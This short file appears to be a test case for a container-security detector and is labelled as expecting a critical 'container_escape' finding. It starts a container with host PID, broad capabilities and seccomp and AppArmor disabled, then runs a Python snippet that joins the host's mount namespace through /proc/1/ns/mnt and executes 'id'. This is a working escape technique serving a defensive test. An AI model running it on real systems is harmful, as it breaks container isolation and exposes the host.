# about: a thread enters, and runs the program
# expect: container_escape critical
# where: container
# needs: docker
container --pid=host --cap-add SYS_ADMIN --cap-add SYS_PTRACE --cap-add SYS_CHROOT --cap-add DAC_READ_SEARCH --security-opt seccomp=unconfined --security-opt apparmor=unconfined -- \
    python3 -c 'import ctypes,os,threading
libc=ctypes.CDLL(None,use_errno=True)
def run():
    libc.unshare(0x200)
    fd=os.open("/proc/1/ns/mnt",0); print(libc.setns(fd,0)); os.system("id")
t=threading.Thread(target=run); t.start(); t.join()' || true
